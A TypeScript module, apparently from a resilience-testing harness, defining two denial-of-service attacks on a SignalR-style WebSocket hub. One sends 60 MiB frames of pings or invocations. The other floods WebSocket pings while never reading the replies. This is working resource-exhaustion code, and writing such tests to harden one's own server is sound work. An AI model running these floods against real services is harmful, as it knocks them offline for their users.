import { type Attack, again, exchange, openHub } from './attack.ts';

function filled(message: string, last: string): Buffer {
  const text = `${message}\u001e`;
  return Buffer.from(`${text.repeat(Math.floor((60 * 2 ** 20) / text.length))}${last}\u001e`);
}

/** Point 3: one frame full of messages. */
export const hubFrames: Attack = {
  name: 'hub-frames',
  title: 'frames of the hub with 60 MiB of pings or unknown calls, over two connections',
  async run(target) {
    const last = '{"type":1,"invocationId":"1","target":"x","arguments":[]}';
    const frames = [filled('{"type":6}', last), filled('{"type":1,"target":"x","arguments":[]}', last)];
    let next = 0;
    await again(2, async () => exchange(await openHub(target, 'json'), frames[next++ % frames.length]!));
  },
};

/** Its sibling: pings of the WebSocket itself, whose answers nobody reads. */
export const socketPings: Attack = {
  name: 'socket-pings',
  title: 'pings of WebSockets whose answers nobody reads, over four connections',
  async run(target) {
    await again(4, async () => {
      const socket = await openHub(target, 'json');
      socket.pause();
      while (socket.readyState === socket.OPEN) {
        await new Promise((resolve) => socket.ping(undefined, true, resolve));
      }
    });
  },
};
